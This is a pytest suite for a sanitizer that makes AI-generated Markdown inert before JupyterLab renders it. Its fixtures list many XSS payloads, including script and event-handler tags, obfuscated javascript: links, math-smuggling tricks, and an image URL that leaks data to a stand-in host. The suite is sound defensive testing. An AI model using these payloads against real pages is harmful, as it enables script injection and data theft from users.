"""Model Markdown never reaches the browser as live HTML: tests of `aiml_magics.display.sanitize`.

Every hostile input below is neutralised, then rendered the way a permissive frontend would
(markdown-it with raw HTML on and every link target accepted, as `marked` does in JupyterLab).
The rendered HTML may only use an allow-list of tags, no `on*` attribute, and only safe link and
image targets, while the hostile text stays visible as text. Benign answers come out unchanged.
"""

from __future__ import annotations

import json
import random
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from aiml_magics.display import sanitize
from aiml_magics.display.sanitize import (
    escape_markdown_inline,
    is_safe_markdown,
    neutralize_markdown,
)

ALLOWED_TAGS = {
    "p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code",
    "em", "strong", "s", "a", "img", "table", "thead", "tbody", "tr", "th", "td", "br", "hr",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"href", "src", "alt", "title", "class", "style", "start"}


def permissive_render(markdown: str) -> str:
    """Render like a frontend that trusts its input: raw HTML on, no link validation."""
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md.render(markdown)


class Inspector(HTMLParser):
    """Collects the tags, attributes and visible text of rendered HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.tags.append("<!-- comment -->")

    def handle_pi(self, data: str) -> None:
        self.tags.append("<? processing instruction ?>")

    def handle_decl(self, decl: str) -> None:
        self.tags.append("<!declaration>")

    def unknown_decl(self, data: str) -> None:
        self.tags.append("<![cdata]>")


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def browser_scheme(url: str) -> str | None:
    """The scheme a browser's URL parser finds (it strips C0 and spaces, drops tabs/newlines)."""
    url = re.sub(r"[\t\n\r]", "", url.strip("".join(map(chr, range(33)))))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", url)
    return match.group(1).lower() if match else None


def safe_target(tag: str, name: str, value: str, allow_remote_images: bool) -> bool:
    if tag == "img" and name == "src":
        remote = allow_remote_images and browser_scheme(value) in ("http", "https")
        return value.startswith("data:image/") or remote
    if name == "href":
        return browser_scheme(value) in (None, "http", "https", "mailto")
    return True


def assert_harmless(markdown: str, allow_remote_images: bool = False) -> str:
    """Render `markdown` permissively and check the allow-list; return the visible text."""
    page = inspect(permissive_render(markdown))
    assert set(page.tags) <= ALLOWED_TAGS, page.tags
    for tag, name, value in page.attributes:
        assert name in ALLOWED_ATTRIBUTES, (tag, name, value)
        assert not name.startswith("on"), (tag, name)
        assert safe_target(tag, name, value, allow_remote_images), (tag, name, value)
        assert name != "class" or value.startswith("language-"), value
    return "".join(page.text)


def neutralized(text: str, **options: bool) -> str:
    out = neutralize_markdown(text, **options)
    assert is_safe_markdown(out, **options), out
    return out


# ---------------------------------------------------------------- hostile input

# (model output, text that must still be visible after rendering)
HOSTILE = [
    # raw HTML, inline and block
    pytest.param("Hi <script>alert(1)</script>!", "<script>alert(1)</script>", id="script-inline"),
    pytest.param("<script>\nalert(1)\n</script>\n\nafter", "alert(1)", id="script-block"),
    pytest.param("<SCRIPT>alert(1)</SCRIPT>", "<SCRIPT>", id="script-upper"),
    pytest.param("text <script\n  src=//evil.example/x.js></script>", "<script", id="script-split"),
    pytest.param("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param("an <svg onload=alert(1)> icon", "<svg onload=alert(1)>", id="svg-onload"),
    pytest.param('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe", id="iframe"),
    pytest.param("<style>body{display:none}</style>", "<style>", id="style"),
    pytest.param('<a href="javascript:alert(1)">click</a>', '<a href="javascript', id="a-html"),
    pytest.param("<details open ontoggle=alert(1)>x</details>", "ontoggle", id="details"),
    pytest.param("<!-- <script>alert(1)</script> -->", "<!--", id="comment"),
    pytest.param("<object data=x.swf></object> <embed src=x>", "<embed src=x>", id="object"),
    pytest.param('<form action="https://evil.example"><input></form>', "<form", id="form"),
    pytest.param('<meta http-equiv="refresh" content="0;url=https://evil">', "<meta", id="meta"),
    pytest.param('<link rel=stylesheet href=//evil.example/x.css>', "<link", id="link-tag"),
    pytest.param("<base href=https://evil.example/>", "<base", id="base"),
    pytest.param("<![CDATA[<script>alert(1)</script>]]>", "CDATA", id="cdata"),
    pytest.param("<?xml-stylesheet href=x?>", "<?xml", id="processing-instruction"),
    pytest.param("<!DOCTYPE html>", "<!DOCTYPE", id="declaration"),
    # raw HTML inside containers
    pytest.param("- item <img src=x onerror=alert(1)>\n- two", "onerror", id="in-list"),
    pytest.param("> quoted <script>alert(1)</script>", "<script>", id="in-quote"),
    pytest.param("| a | b |\n|---|---|\n| <img src=x onerror=1> | 2 |", "<img", id="in-table"),
    pytest.param("# Title <svg onload=alert(1)>", "<svg", id="in-heading"),
    pytest.param("- a\n\n  > <div onclick=alert(1)>\n  > x\n", "<div", id="block-in-quote-in-list"),
    # links with unsafe targets, in every syntax
    pytest.param("[click](javascript:alert(1))", "[click](javascript:alert(1))", id="inline"),
    pytest.param('[x](javascript:alert(1) "title")', "javascript:alert(1)", id="with-title"),
    pytest.param("[x](<javascript:alert(1)>)", "javascript:alert(1)", id="angle-destination"),
    pytest.param("[x](vbscript:msgbox(1))", "vbscript:", id="vbscript"),
    pytest.param("[x](data:text/html;base64,PHNjcmlwdD4=)", "data:text/html", id="data-html"),
    pytest.param("[x](file:///etc/passwd)", "file:///etc/passwd", id="file"),
    pytest.param("[x][r]\n\n[r]: javascript:alert(1)", "[x]", id="reference-full"),
    pytest.param("[r][]\n\n[r]: javascript:alert(1)", "[r]", id="reference-collapsed"),
    pytest.param("[r]\n\n[r]: javascript:alert(1)", "javascript:alert(1)", id="reference-shortcut"),
    pytest.param("<javascript:alert(1)>", "<javascript:alert(1)>", id="autolink"),
    pytest.param("[x](JaVaScRiPt:alert(1))", "JaVaScRiPt", id="case"),
    pytest.param("[x](  javascript:alert(1))", "javascript", id="leading-space"),
    pytest.param("[x](&#106;avascript:alert(1))", "avascript", id="entity-decimal"),
    pytest.param("[x](&#x6A;avascript&colon;alert(1))", "avascript", id="entity-named"),
    pytest.param("[x](javascript%3Aalert(1))", "javascript%3Aalert(1)", id="percent"),
    pytest.param("[x](<java\tscript:alert(1)>)", "script:alert(1)", id="tab-in-scheme"),
    pytest.param("[x](<\x01javascript:alert(1)>)", "javascript", id="control-char"),
    pytest.param("[x](java\u200bscript:alert(1))", "script:alert(1)", id="zero-width"),
    pytest.param("[a [b](javascript:x)](javascript:y)", "javascript:", id="nested"),
    pytest.param("<a_b onfocus=alert(1) autofocus tabindex=1>", "onfocus", id="marked-tag-name"),
    pytest.param("see </x:y onclick=alert(1)>", "onclick", id="marked-closing-tag"),
    # images that the browser would fetch by itself
    pytest.param("![chart](https://evil.example/leak?d=secret)", "image: chart", id="remote-image"),
    pytest.param("![c][i]\n\n[i]: https://evil.example/x.png", "image: c", id="reference-image"),
    pytest.param("![c](//evil.example/x.png)", "image: c", id="protocol-relative"),
    pytest.param("![c](local/x.png)", "local/x.png", id="relative-image"),
    pytest.param("![x](javascript:alert(1))", "javascript:alert(1)", id="javascript-image"),
    pytest.param("![x](data:image/svg+xml;base64,PHN2Zz4=)", "image: x", id="svg-data"),
    pytest.param("[![logo](https://evil.example/l.png)](https://ok)", "image: logo", id="in-link"),
    pytest.param("!![x](https://evil.example/x.png)", "!", id="bang-before-image"),
    pytest.param(
        "![<img src=x onerror=alert(1)> *em*](https://evil.example/x.png)",
        "<img src=x onerror=alert(1)>",
        id="alt-with-markup",
    ),
]  # fmt: skip


@pytest.mark.parametrize(("text", "visible"), HOSTILE)
def test_hostile_markdown_renders_inert_and_visible(text: str, visible: str) -> None:
    shown = assert_harmless(neutralized(text))
    assert visible in shown


# markdown-it reads these two as text; only looser parsers (marked) see tags in them, so they
# are neutralised (above) but not reported by the markdown-it based verifier.
LOOSE_PARSER_ONLY = ("_b onfocus", "x:y onclick")


@pytest.mark.parametrize(
    ("text", "visible"),
    [p for p in HOSTILE if not any(marker in p.values[0] for marker in LOOSE_PARSER_ONLY)],
)
def test_hostile_markdown_is_detected_before_neutralising(text: str, visible: str) -> None:
    assert not is_safe_markdown(text)


def test_neutralised_links_show_their_text_and_target() -> None:
    assert neutralized("[click](javascript:alert(1))") == r"\[click\]\(javascript:alert(1))"
    assert neutralized("<javascript:alert(1)>") == "&lt;javascript:alert(1)>"
    assert neutralized("[x][r]\n\n[r]: javascript:x") == "\\[x\\]\\[r]\n\n\\[r\\]: javascript:x"


def test_remote_images_become_links_or_stay_with_opt_in() -> None:
    text = "![chart](https://example.org/c.png)"
    assert neutralized(text) == "[image: chart](<https://example.org/c.png>)"
    assert neutralized(text, allow_remote_images=True) == text
    assert_harmless(text, allow_remote_images=True)
    # an image inside a link keeps the link and loses the image
    assert (
        neutralized("[![l](https://e.org/l.png)](https://e.org)")
        == r"[\[image: l\]](https://e.org)"
    )
    # other targets become text, showing where the image pointed
    assert neutralized("![x](javascript:alert(1))") == r"\[image: x\] ` javascript:alert(1) `"


def test_only_raster_data_images_stay_images() -> None:
    png = "![dot](data:image/png;base64,iVBORw0KGgo=)"
    assert neutralized(png) == png
    assert "<img" in permissive_render(png)
    assert "<img" not in permissive_render(neutralized(png.replace("png", "svg+xml", 1)))


# ---------------------------------------------------------------- benign input is unchanged

BENIGN_ANSWER = """\
## Sorting in Python

Use `sorted()` for a new list, or `list.sort()` in place. Both are *stable* and **fast**;
`<b>` in inline code stays code, and so do comparisons like x < y, p < 0.05, x<5, a -> b, c => d.

1. Read the [docs](https://docs.python.org/3/howto/sorting.html "Sorting HOW TO").
2. Mail <team@example.org>, see <https://example.org/faq>, [a section](#setup), [a file](a.md).
   - nested item with ~~old~~ text

| method      | returns | in place |
|:------------|:-------:|---------:|
| `sorted(x)` | list    | no       |
| `x.sort()`  | None    | yes      |

```python
def top(items, n=3):
    html = "<div>" + str(items) + "</div>"
    return sorted(items, reverse=True)[:n] if n > 0 and x < y else []
```

> The cost is $O(n \\log n)$ and $a<b$ holds; display math too:

$$
\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}
$$

![inline dot](data:image/png;base64,iVBORw0KGgo=)

[ref]: https://example.org/ref
"""


def test_realistic_answer_is_unchanged() -> None:
    assert neutralized(BENIGN_ANSWER) == BENIGN_ANSWER
    assert_harmless(BENIGN_ANSWER)


@pytest.mark.parametrize(
    "text",
    [
        "a < b, x<5, p < 0.05, ->, =>, <=, <-, 1 <2",
        "`<script>alert(1)</script>` in a code span",
        "```html\n<script>alert(1)</script>\n```\n",
        '1. Write:\n   ```html\n   <div id="app"></div>\n   ```\n2. Run `open index.html`.\n',
        "    plain indented code, nothing Markdown-like in it\n",
        "Math stays math: $a<b$, $x_1 > y$ and $$\\frac{1}{2}$$",
        "| a | b |\n|---|---|\n| `x\\|y` | [ok](https://ok.example) |",
        "[mail](mailto:a@example.org), [up](../x), [top](#top), [q](?q=1)",
        "1. one\n2. two\n\n- [ ] task\n- [x] done",
    ],
)
def test_benign_markdown_is_unchanged(text: str) -> None:
    assert neutralized(text) == text


def test_math_is_left_alone_unless_markdown_sees_html_in_it() -> None:
    # `$a<b$` is not HTML and stays as it is. `$a<b>c$` contains a tag for every Markdown
    # parser outside JupyterLab, so its `<` is defused; inside math that is `< ` (no tag starts
    # with a space, and TeX reads it as `<`), not `&lt;`, which MathJax would show literally.
    assert neutralized("$a<b$") == "$a<b$"
    assert neutralized("$a<b>c$") == "$a< b>c$"


# ---------------------------------------------------------------- closing an open fence


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("```python\nprint(1)", "```python\nprint(1)\n```\n"),
        ("intro\n\n~~~\ncode\n", "intro\n\n~~~\ncode\n~~~\n"),
        ("````md\n```\nnested\n", "````md\n```\nnested\n````\n"),
        ("```", "```\n```\n"),
        # a content line that could close the fence elsewhere makes the fence longer
        ("```\n```~\nx\n", "````\n```~\nx\n````\n"),
    ],
)
def test_open_fence_at_the_end_is_closed(text: str, expected: str) -> None:
    assert neutralized(text) == expected


def test_appended_markdown_is_not_swallowed_by_a_code_block() -> None:
    for answer in ("```python\nx = 1", "- step\n\n  ```sh\n  ls", "> ```\n> y"):
        page = permissive_render(neutralized(answer) + "\n\n**footer**\n")
        assert "<strong>footer</strong>" in page, answer


# Code that holds Markdown-like text (`<tag`, `](`, `![`) is made unambiguous, so that a
# parser other than markdown-it (JupyterLab's marked) cannot read it as Markdown. The code
# itself renders the same.
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # marked closes ``` with "```~": the fence gets longer than any run inside
        pytest.param(
            "```\n```~\n<img src=x onerror=alert(1)>\n```\n",
            "````text\n```~\n<img src=x onerror=alert(1)>\n````\n",
            id="early-close",
        ),
        # marked does not close with "```<tab>": clean closing line; and a top-level fence
        # holding HTML starts at column 0 after a blank line, with an info string
        pytest.param(
            "```\nx\n```\t\n```\n<img src=x onerror=1>\n```\n",
            "```\nx\n```\n\n```text\n<img src=x onerror=1>\n```\n",
            id="tab-after-closing",
        ),
        # indented code becomes a fence (parsers disagree about indentation and tabs)
        pytest.param(
            "Text:\n\n    <b>x</b>\n    y\n", "Text:\n\n```text\n<b>x</b>\ny\n```\n", id="indented"
        ),
        pytest.param(
            "- a\n\n      <b>x</b>\n", "- a\n\n  ```text\n  <b>x</b>\n  ```\n", id="in-list"
        ),
        # where that is not possible, the code stays code but shows escaped
        pytest.param("> q\n>\n>     <b>x</b>\n", "> q\n>\n>     &lt;b>x&lt;/b>\n", id="in-quote"),
        # an open fence in a list item is closed at its own indent
        pytest.param(
            "1. Run:\n   ```sh\n   echo <b>", "1. Run:\n   ```sh\n   echo <b>\n   ```\n", id="open"
        ),
        # a code span over two lines is joined (line ends render as spaces anyway)
        pytest.param("a `x\n<b>` c", "a `x <b>` c", id="code-span-lines"),
        # ... and gets a backtick count no stray backtick run has
        pytest.param("x ` y\n\n`<i>`", "x ` y\n\n``<i>``", id="code-span-fence"),
        # marked reads "~`" as text, and lets a bare URL swallow backticks
        pytest.param("~`<b>`", "\\~`<b>`", id="tilde"),
        pytest.param("www.x.org`<b>`", "www.x.org\\`&lt;b>`", id="bare-url"),
    ],
)
def test_code_that_looks_like_markdown_is_made_unambiguous(text: str, expected: str) -> None:
    assert neutralized(text) == expected
    assert_harmless(expected)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # marked reads a line of blanks, "> " or "* " differently from CommonMark
        pytest.param("a\n\t\n<b>", "a\n\n&lt;b>", id="blank-with-tab"),
        pytest.param("*\t\n    x", "*\n    x", id="bare-marker"),
        # indentation tabs become spaces (CommonMark's own reading of them)
        pytest.param("-\tx\n\t\t<b>", "-\tx\n        &lt;b>", id="tabs"),
        # markdown-it ends a quote with a list that CommonMark and marked read as a lazy line
        pytest.param("> a\n2) b", "> a\n2\\) b", id="list-after-quote"),
        # a definition marked might not read as one becomes text
        pytest.param("[r]:\n<b>", "\\[r\\]:\n&lt;b>", id="definition-next-line"),
        pytest.param("[r]:<b>", "\\[r\\]:&lt;b>", id="definition-angle-tag"),
        # ... and text marked might read as a definition does too
        pytest.param("[r]: javascript:x", "\\[r\\]: javascript:x", id="definition-unsafe"),
        # a stray `](` that a looser parser could still close into a link
        pytest.param("[a `]` b](javascript:x)", None, id="stray-bracket"),
    ],
)
def test_structure_other_parsers_read_differently_is_normalised(
    text: str, expected: str | None
) -> None:
    out = neutralized(text)
    if expected is not None:
        assert out == expected
    assert_harmless(out)


# ---------------------------------------------------------------- JupyterLab's math pre-pass


def jupyterlab_render(markdown: str) -> str:
    """Hide math, render, restore it with only `<>&` escaped, as JupyterLab does."""
    view = sanitize._MathView.of(markdown)
    if view is None:
        return permissive_render(markdown)
    page = permissive_render(view.text)
    for number, start in sorted(view.starts.items(), reverse=True):
        end = next(e for s, e, n in sanitize._math_spans(markdown) if n == number)
        math = markdown[start:end].replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        page = page.replace(f"@@{number}@@", math)
    return page


@pytest.mark.parametrize(
    "text",
    [
        # math hides the opening of a fence in a list, freeing its content
        "text $x\n- a\n  ```\n  $ <img src=x onerror=alert(1)>\n  ```\n",
        # a code span over two lines is not protected from math
        "a `code\n$x` b $ <img src=x onerror=alert(1)>`",
        # math hides a bracket, making a link only marked sees
        "[t $]$](javascript:alert(1))",
        # restored math ends an attribute: quotes are not escaped
        '[x](https://ok.example "$" onmouseover="alert(1)$")',
        '- x\n  ```$" onmouseover="alert(1)\n  code\n  ```\n$',
    ],
)
def test_math_cannot_smuggle_markup_past_jupyterlab(text: str) -> None:
    out = neutralized(text)
    page = inspect(jupyterlab_render(out))
    assert set(page.tags) <= ALLOWED_TAGS, out
    assert not [a for a in page.attributes if a[1].startswith("on")], out


def test_benign_math_and_code_are_untouched_for_jupyterlab() -> None:
    text = (
        "1. Set:\n   ```bash\n   export PATH=$HOME/bin:$PATH\n   ```\n"
        "2. Run:\n   ```bash\n   echo $PATH\n   ```\n\nCost: $\\$5$ or `$HOME`.\n"
    )
    assert neutralized(text) == text


# ---------------------------------------------------------------- JupyterLab itself, if at hand

NODE_MODULES = Path(__file__).resolve().parents[1] / "labextension" / "node_modules"
RENDER_MJS = """
const modules = process.argv[2];
const { marked } = await import(modules + '/marked/lib/marked.esm.js');
const plugins = [['marked-gfm-heading-id', 'gfmHeadingId'], ['marked-mangle', 'mangle']];
for (const [name, factory] of plugins) {
  try { marked.use((await import(`${modules}/${name}/src/index.js`))[factory]()); } catch {}
}
globalThis.navigator ??= { appName: 'node' };
const { removeMath, replaceMath } = await import('./latex.mjs');
let input = '';
for await (const chunk of process.stdin) input += chunk;
const pages = [];
for (const markdown of JSON.parse(input)) {  // as rendermime's renderMarkdown does
  const parts = removeMath(markdown);
  pages.push(replaceMath(await marked(parts.text, { async: true, gfm: true }), parts.math));
}
process.stdout.write(JSON.stringify(pages));
"""
MARKED_TAGS = ALLOWED_TAGS | {"del", "input"}
MARKED_ATTRIBUTES = ALLOWED_ATTRIBUTES | {"id", "align", "checked", "disabled", "type"}


@pytest.fixture(scope="module")
def jupyterlab(tmp_path_factory: pytest.TempPathFactory):
    """Render like JupyterLab 4: math pre-pass, then marked with its plugins."""
    node, latex = shutil.which("node"), NODE_MODULES / "@jupyterlab/rendermime/lib/latex.js"
    if not node or not latex.exists() or not (NODE_MODULES / "marked").exists():
        pytest.skip("needs node and labextension/node_modules (marked, @jupyterlab/rendermime)")
    folder = tmp_path_factory.mktemp("jupyterlab")
    (folder / "latex.mjs").write_text(latex.read_text())
    (folder / "render.mjs").write_text(RENDER_MJS)

    def render(markdowns: list[str]) -> list[str]:
        command = [node, str(folder / "render.mjs"), str(NODE_MODULES)]
        done = subprocess.run(
            command, input=json.dumps(markdowns), capture_output=True, text=True, check=True
        )
        return json.loads(done.stdout)

    return render


def test_jupyterlab_renders_neutralised_markdown_inert(jupyterlab) -> None:
    rng = random.Random(7)
    texts = [param.values[0] for param in HOSTILE] + [BENIGN_ANSWER]
    texts += ["\n".join(random_line(rng) for _ in range(rng.randint(1, 10))) for _ in range(600)]
    pages = jupyterlab([neutralize_markdown(text) for text in texts])
    for text, page in zip(texts, pages, strict=True):
        seen = inspect(page)
        assert set(seen.tags) <= MARKED_TAGS, (text, page)
        for tag, name, value in seen.attributes:
            assert name in MARKED_ATTRIBUTES and not name.startswith("on"), (text, page)
            assert safe_target(tag, name, value, False), (text, page)


# ---------------------------------------------------------------- escape_markdown_inline


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("gpt-4o-mini", "gpt-4o-mini"),
        ("<b>bold</b> & co", "<b>bold</b> & co"),
        ("*not em* _nor_ `code` ~~del~~", "*not em* _nor_ `code` ~~del~~"),
        ("[x](javascript:alert(1))", "[x](javascript:alert(1))"),
        ("# not a heading", "# not a heading"),
        ("1. not a list", "1. not a list"),
        ("two\nlines\r\n\n  and  spaces", "two lines and spaces"),
        ("$x$ and @@0@@ | pipe \\ backslash", "$x$ and @@0@@ | pipe \\ backslash"),
        ("<javascript:alert(1)>", "<javascript:alert(1)>"),
    ],
)
def test_escape_markdown_inline_shows_the_string_as_text(text: str, shown: str) -> None:
    escaped = escape_markdown_inline(text)
    assert "\n" not in escaped
    page = inspect(permissive_render(f"# Model {escaped}\n\n{escaped}\n"))
    assert page.tags == ["h1", "p"]
    assert "".join(page.text).strip().split("\n") == [f"Model {shown}", shown]
    assert sanitize._MathView.of(escaped) is None  # no `$...$` for JupyterLab either


# ---------------------------------------------------------------- never raises


@pytest.mark.parametrize(
    "text",
    [
        "",
        "\x00",
        "\x00<script>\x00",
        "\ud800 lone surrogate \udfff<b>",
        "\r\n\r<b>\r",
        "\u2028<script>\u2029",
        "\ufeff\x7f\x1b[31m",
        ">" * 300 + " <script>",
        "- " * 150 + "<b>x</b>",
        "[" * 2000 + "](javascript:x)",
        "*" * 3000,
        "`" * 3000 + "<b>",
        "<" * 3000,
        "$" * 3000 + "<b>$",
        "\\" * 3000,
        "![" * 500 + "](http://e/x.png)" * 500,
        "|a|\n|-|\n" + "|<b>|\n" * 500,
    ],
)
def test_odd_input_never_raises_and_comes_out_safe(text: str) -> None:
    out = neutralize_markdown(text)
    assert isinstance(out, str)
    assert is_safe_markdown(out)
    assert_harmless(out)


def test_non_string_input_is_tolerated() -> None:
    assert neutralize_markdown(b"<b>x</b>") == "&lt;b>x&lt;/b>"  # type: ignore[arg-type]
    assert neutralize_markdown(None) == ""  # type: ignore[arg-type]


FRAGMENTS = [
    "text", "<b>", "</b>", "<img src=x onerror=alert(1)>", "<script>", "<!--", "-->", "`", "```",
    "~~~", "$", "$$", "[", "]", "(", ")", "![", "](", "javascript:alert(1)", "https://e.org/x.png",
    "<javascript:x>", "<https://e.org>", "\\", "*", "_", "> ", "- ", "1. ", "|", "|---|", "#",
    "&#106;", "&lt;", "    ", "\t", "[r]: ", "[r]", "\"", "'", "<a_b onfocus=x>", "@@0@@", "{", "}",
    "\\\\(", "\\\\)", "\\begin{x}", "\\end{x}",
]  # fmt: skip
SEPARATORS = ["", "", " ", "\n", "\n\n", "\n  ", "\n> "]
LINE_STARTS = ["", "", "> ", "- ", "  ", "    ", "1. ", "2) ", "\t", "> > ", "   - ", "*", " "]


def random_line(rng: random.Random) -> str:
    """A line of Markdown structure and hostile fragments, for the fuzz tests."""
    words = (rng.choice(FRAGMENTS) + rng.choice(["", " "]) for _ in range(rng.randint(0, 6)))
    return rng.choice(LINE_STARTS) + "".join(words)


def test_random_mixtures_always_come_out_safe() -> None:
    rng = random.Random(20240601)
    for index in range(600):
        if index % 2:
            text = "\n".join(random_line(rng) for _ in range(rng.randint(1, 12)))
        else:
            pieces = (rng.choice(FRAGMENTS) + rng.choice(SEPARATORS) for _ in range(30))
            text = "".join(pieces)[: rng.randint(1, 400)]
        out = neutralize_markdown(text)
        assert is_safe_markdown(out), (text, out)
        assert_harmless(out)


# ---------------------------------------------------------------- cost


def test_importing_the_module_does_not_load_the_parser() -> None:
    code = "import sys, aiml_magics.display.sanitize; print('markdown_it' in sys.modules)"
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )
    assert result.stdout.strip() == "False"


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "text",
    [
        "```x\n" * 20000,  # many fences that never close
        "~~~~~~~~~~\n" * 5000 + "~~~\n" * 5000,
        "`a``b" * 20000,  # one long line of unmatched backtick runs
        "$`$\n" * 20000,
        "<a " * 20000,
    ],
    ids=["open-fences", "tilde-fences", "backtick-runs", "dollar-code", "open-tags"],
)
def test_pathological_input_stays_fast(text: str) -> None:
    assert is_safe_markdown(neutralize_markdown(text))


@pytest.mark.parametrize(
    ("math", "shown"),
    [
        ("$x<y + 1$", "$x< y + 1$"),
        ("$$a<b c$$", "$$a< b c$$"),
        ("$p<0.05$", "$p<0.05$"),
        ("$<script>alert(1)</script>$", "$< script>alert(1)< /script>$"),
    ],
)
def test_less_than_inside_math_stays_valid_tex(math: str, shown: str) -> None:
    """MathJax would show an escaped `&lt;` literally; `< y` is inert and valid TeX."""
    out = neutralize_markdown(math)
    assert out == shown
    assert is_safe_markdown(out)
    assert_harmless(out)


def test_less_than_inside_math_keeps_the_rest_of_the_text() -> None:
    # a literal `@@0@@` inside math is a span of its own for JupyterLab: nothing is repeated
    assert neutralize_markdown("$a<b>c @@0@@ d$") == "$a< b>c @@0@@ d$"
    # code is not typeset, so it keeps its (escaped) form
    assert neutralize_markdown("x `$<i>$` y") == "x `$<i>$` y"


def test_neutralising_twice_changes_nothing() -> None:
    rng = random.Random(3)
    texts = [param.values[0] for param in HOSTILE] + [BENIGN_ANSWER]
    texts += ["\n".join(random_line(rng) for _ in range(rng.randint(1, 10))) for _ in range(300)]
    for text in texts:
        once = neutralize_markdown(text)
        assert neutralize_markdown(once) == once, text


def test_less_than_outside_math_is_still_escaped() -> None:
    assert (
        neutralize_markdown("a <b>bold</b> and $x<y + 1$") == "a &lt;b>bold&lt;/b> and $x< y + 1$"
    )
